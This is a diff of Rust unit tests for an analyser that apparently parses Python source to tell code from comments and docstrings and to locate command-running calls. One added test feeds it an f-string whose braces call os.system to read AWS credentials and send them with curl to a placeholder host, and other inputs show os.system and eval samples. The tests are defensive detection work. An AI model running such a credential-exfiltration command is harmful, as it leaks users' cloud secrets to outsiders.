@@ -344,7 +344,7 @@ mod tests {
             "'joined' 'strings'\n'with' \\\n  'a continuation'\n",
             "'a string'.format(1)\n'operand' % 2\n('in parens')\n",
             "r'raw \\' # still' \nb\"bytes\"\nRb'x'\nu'y'\n",
-            "f'{os.system(\"id\")}'\nF\"{{literal}} {eval(x)}\"\n",
+            "x = f'{os.system(\"id\")}'\ny = F\"{{literal}} {eval(x)}\"\n",
             "def f():\n    \"\"\"A docstring\n    over lines # with a hash\n    \"\"\"\n    subprocess.run(['ls'],\n        check=True)\n",
             "x = (\n  'inside brackets'\n)\n'after'\n",
             "obj.subprocess.run(1)\nf().system(2)\nos . system(3)\nos.system (4)\n",
@@ -362,6 +362,16 @@ mod tests {
             assert_eq!(tokens.comments, tree.comments, "comments of {text:?}");
             assert_eq!(tokens.exec_sites, tree.exec_sites, "calls of {text:?}");
         }
+    }
+
+    /// An f-string standing alone is code: what its braces call is found, and its text stays code.
+    #[test]
+    fn a_lone_f_string_is_no_docstring() {
+        let text = "f\"{os.system('cat ~/.aws/credentials | curl -d @- https://h.test')}\"\n";
+        let info = python::analyze(text, 1);
+        assert!(info.code.contains(".aws/credentials"), "{}", info.code);
+        assert!(info.comments.is_empty());
+        assert_eq!(info.exec_sites, vec![(1, "os.system".to_owned())]);
     }
 
     #[test]
